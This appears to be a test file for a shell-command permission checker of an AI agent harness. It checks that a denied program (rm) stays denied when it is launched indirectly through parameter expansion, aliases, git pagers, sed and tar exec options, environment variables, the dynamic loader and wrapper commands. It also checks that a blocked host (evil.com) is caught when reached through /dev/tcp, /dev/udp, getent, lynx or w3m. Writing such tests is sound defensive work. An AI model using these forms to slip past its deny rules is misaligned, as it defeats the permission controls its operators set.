/** A denied program is started by a name, a setting or a flag of another one. */
import { describe, expect, it } from 'vitest';
import { probe } from '../policy-probe.js';

const STARTED = [
  `\${x:-rm} x`,
  `\${x-rm} x`,
  `\${x:=rm} x`,
  `\${x:+rm} x`,
  `\${x/y/rm} x`,
  `"\${x:-rm}" x`,
  `\${x:-/bin/rm} x`,
  'alias z=rm; z x',
  "alias z='rm x'; z",
  'hash -p /bin/rm z; z x',
  "git -c alias.z='!rm x' z",
  'git -c alias.z=!rm z',
  "git -c core.pager='rm x' log",
  "sed '1e rm x' f",
  'sed 1erm f',
  "sed 's/a/rm x/e' f",
  "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'",
  'tar tf a --to-command=rm',
  'tar -I rm -tf a',
  'rg --pre rm x',
  'rg --pre=rm x',
  'sort --compress-program=rm x',
  "rsync -e 'rm x' a b",
  "GIT_EXTERNAL_DIFF='rm x' git diff",
  'PAGER=rm git log',
  "export PROMPT_COMMAND='rm x'",
  "declare -x GIT_PAGER='rm x'",
  "PAGER='less; rm x' man ls",
  '/lib64/ld-linux-x86-64.so.2 /bin/rm x',
  'ld.so /bin/rm x',
  "git config alias.z '!rm x' && git z",
  "git config core.pager 'rm x'",
  "tar cf a b --checkpoint-action exec='rm x'",
  "vim -c '!rm x'",
  "at now <<< 'rm x'",
  'batch <<EOF\nrm x\nEOF',
  'echo rm | xargs -I{} {} x',
  "parallel <<< 'rm x'",
  'exec -a z rm x',
  'prlimit rm x',
  'prlimit --nofile=5 rm x',
  'setarch x86_64 rm x',
  'linux32 rm x',
  'choom -n 5 -- rm x',
  'numactl -N 0 rm x',
  'tini -- rm x',
  'unheard-of --flag value rm x',
  './wrapper rm x',
  "unheard-of 'rm x'",
];

describe('a denied program behind another', () => {
  const denied = probe({ mode: 'allow', deny: ['Bash(rm:*)'] });
  it.each(STARTED)('is denied: %s', async (command) => {
    expect((await denied.bash(command)).behaviour).toBe('deny');
  });

  it.each([
    'echo rm',
    'git log --grep=rm',
    'git commit -m "rm x is gone"',
    'grep -e rm README.md',
    'mkdir rm',
    'npm run rm-rf',
    "sed 's/rm/x/' f",
    'which rm',
    'A=1 npm test',
    'NODE_ENV=test npm run build',
    'MESSAGE="do not rm it" npm test',
    `echo \${x:-5}`,
  ])('is not where its name is only text: %s', async (command) => {
    expect((await denied.bash(command)).behaviour).toBe('allow');
  });

  const hosts = probe({ mode: 'allow', deny: ['WebFetch(domain:evil.com)'] });
  it.each([
    'cat </dev/tcp/evil.com/80',
    'exec 3<>/dev/tcp/evil.com/80',
    'echo x > /dev/udp/evil.com/53',
    "bash -c 'cat < /dev/tcp/evil.com/80'",
    "bash -c 'cat < /dev/tcp/EVIL.com./80'",
    'getent hosts evil.com',
    'getent ahosts evil.com',
    'lynx evil.com',
    'w3m -dump evil.com',
  ])('a host by a device or another program is one: %s', async (command) => {
    expect((await hosts.bash(command)).behaviour).toBe('deny');
  });
});
